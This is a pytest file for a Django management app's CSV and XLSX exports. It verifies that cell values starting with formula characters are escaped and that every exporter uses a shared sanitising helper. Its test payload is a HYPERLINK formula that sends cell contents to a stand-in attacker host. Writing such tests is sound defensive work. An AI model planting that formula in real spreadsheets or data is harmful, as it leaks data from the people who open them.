"""No export lets a value run as a formula in the spreadsheet of whoever opens it (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from ims.audit.context import audit_context
from ims.esign.services import certification_create
from ims.org.models import Person
from ims.web.exports import safe_cell, safe_row
from tests.policies.ack_factories import effective_policy

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NEUTRAL = "'" + EVIL


def _csv_cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _no_live_formula(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not live, live


@pytest.fixture
def evil(org, password_hash):
    """An employee of site A whose first name is a formula, certified (so in the certification register)."""
    Person.objects.filter(pk=org.emp_a.pk).update(first_name=EVIL)
    org.emp_a.refresh_from_db()
    certification_create(person=org.emp_a, password=org.password, username=org.emp_a.username, session={})
    return org.emp_a


def test_the_helper_neutralises_text_only():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell("Basel") == "Basel"
    assert safe_row([None, "=x", 1]) == ["", "'=x", 1]


def test_people_list_csv(org, evil, client_for):
    cells = _csv_cells(client_for(org.qm_a).get(reverse("org:person_list"), {"export": "csv"}))
    assert NEUTRAL in cells
    _no_live_formula(cells)


def test_audit_trail_csv(org, evil, client_for):
    from ims.org import services

    with audit_context(reason=EVIL, channel="web", actor=org.admin):
        services.site_update(site=org.site_a, data={"name": "Basel Plant renamed"})
    cells = _csv_cells(client_for(org.admin).get(reverse("audit:trail"), {"export": "csv"}))
    assert NEUTRAL in cells
    _no_live_formula(cells)


def test_certification_register_csv(org, evil, client_for):
    cells = _csv_cells(client_for(org.admin).get(reverse("esign:certification_register"), {"export": "csv"}))
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    _no_live_formula(cells)


def test_coverage_csv(org, evil, password_hash, client_for):
    effective_policy(password_hash, sites=[org.site_a], title=EVIL)
    client = client_for(org.admin)
    for params in (
        {"export": "csv"},
        {"state": "not_started", "export": "csv"},
        {"site": org.site_a.pk, "export": "csv"},
    ):
        _no_live_formula(_csv_cells(client.get(reverse("policies:coverage"), params)))


def test_raci_csv(org, password_hash, client_for):
    effective_policy(password_hash, sites=[org.site_a], title=EVIL)
    _no_live_formula(_csv_cells(client_for(org.admin).get(reverse("policies:raci_matrix"), {"export": "csv"})))


def test_training_matrix_xlsx_stores_names_as_text(org, evil, client_for):
    from openpyxl import load_workbook

    from tests.training.factories import course_at, require

    course = course_at(org.site_a, code="C-GMP")
    require(org.site_a, course, role=org.roles["employee"])
    response = client_for(org.qm_a).get(reverse("training:matrix"), {"site": org.site_a.pk, "export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    names = [cell for cell in values if "HYPERLINK" in str(cell.value)]
    assert names and all(cell.data_type == "s" and str(cell.value).startswith("'") for cell in names)
    assert not [cell for cell in values if cell.data_type == "f"]


def test_every_export_in_the_code_goes_through_the_helper():
    """CSV writers and XLSX cells are made by ims/web/exports.py only (the import templates, the demo file and
    the benchmarks' generated import files hold fixed text of our own, and are read by the importers)."""
    allowed = {
        "ims/web/exports.py",
        "ims/org/importer.py",
        "ims/org/demo.py",
        "benchmarks/imports.py",
        "processes/imports.py",
    }
    offenders = []
    for path in ROOT.glob("**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "node_modules/", ".data/")) or relative in allowed:
            continue
        text = path.read_text(errors="replace")
        if re.search(r"csv\.writer\(|csv\.DictWriter\(|WriteOnlyCell\(|\.cell\(.*value=", text):
            offenders.append(relative)
    assert not offenders, f"write exports through ims.web.exports: {offenders}"
